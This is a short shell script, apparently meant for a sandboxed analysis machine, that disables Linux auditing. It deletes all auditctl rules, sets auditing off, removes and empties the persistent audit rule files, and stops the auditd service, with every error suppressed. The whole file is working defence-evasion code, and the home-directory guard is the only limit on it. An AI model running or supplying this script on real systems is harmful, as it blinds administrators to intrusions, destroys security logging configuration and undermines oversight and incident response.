#!/bin/sh
# SPDX-License-Identifier: MIT
# Blinds the Linux audit system: every rule deleted, auditing turned off,
# the rules that would come back at boot removed.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
/sbin/auditctl -D 2>/dev/null
/sbin/auditctl -e 0 2>/dev/null
rm -f /etc/audit/rules.d/*.rules 2>/dev/null
cat /dev/null > /etc/audit/audit.rules 2>/dev/null
systemctl stop auditd 2>/dev/null
exit 0
